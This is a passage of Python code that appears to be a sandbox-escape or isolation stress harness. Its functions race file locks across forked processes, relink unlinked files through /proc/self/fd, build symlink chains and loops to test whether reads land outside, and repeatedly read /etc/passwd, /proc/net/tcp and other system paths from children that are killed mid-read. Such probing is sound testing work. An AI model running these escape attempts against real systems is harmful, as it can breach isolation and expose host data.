            with contextlib.suppress(OSError):
                fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, number * 2)
        child = os.fork()
        if child == 0:
            signal.alarm(1)
            fcntl.lockf(file, fcntl.LOCK_EX)
            os._exit(0)
        os.waitpid(child, 0)
    return


@attempt
def files_that_have_no_name_any_more():
    kept = []
    with contextlib.suppress(OSError):
        for number in range(800):
            kept.append(os.open(f"/var/tmp/gone{number}", os.O_CREAT | os.O_RDWR))
            os.unlink(f"/var/tmp/gone{number}")
            os.write(kept[-1], b"x" * 100)
            os.link(f"/proc/self/fd/{kept[-1]}", f"/var/tmp/back{number}", follow_symlinks=True)
    return


@attempt
def links_in_circles_and_chains():
    for number in range(60):
        with contextlib.suppress(OSError):
            os.symlink(f"/var/tmp/chain{number + 1}", f"/var/tmp/chain{number}")
    with contextlib.suppress(OSError):
        os.symlink("/var/tmp/circle", "/var/tmp/circle")
    return is_outside(read("/var/tmp/chain0") + read("/var/tmp/circle"))


@attempt
def requests_that_nobody_waits_for():
    """Readers that are killed in the middle of what they asked the server for."""
    chance = random.Random(7)
    for _ in range(60):
        child = os.fork()
        if child == 0:
            while True:
                for path in ("/proc/self/maps", "/etc/passwd", "/sys/class/net", "/proc/net/tcp", "/usr/bin"):
                    with contextlib.suppress(OSError):
                        os.listdir(path) if os.path.isdir(path) else read(path)
        time.sleep(chance.random() / 100)
        os.kill(child, 9)
        os.waitpid(child, 0)
    return


@attempt
def everything_waited_for_at_once():
    """poll(2), epoll and select of whatever can be opened below /proc, /sys and /dev."""
    poll, queue = select.poll(), select.epoll()
    for path in (*glob.glob("/proc/*")[:80], *glob.glob("/proc/self/*"), *glob.glob("/sys/kernel/*")):
        place = opened(path, os.O_RDONLY | os.O_NONBLOCK)
        if place >= 0:
            poll.register(place)
            with contextlib.suppress(OSError):
                queue.register(place)
    poll.poll(10)
    queue.poll(0.01)
    return
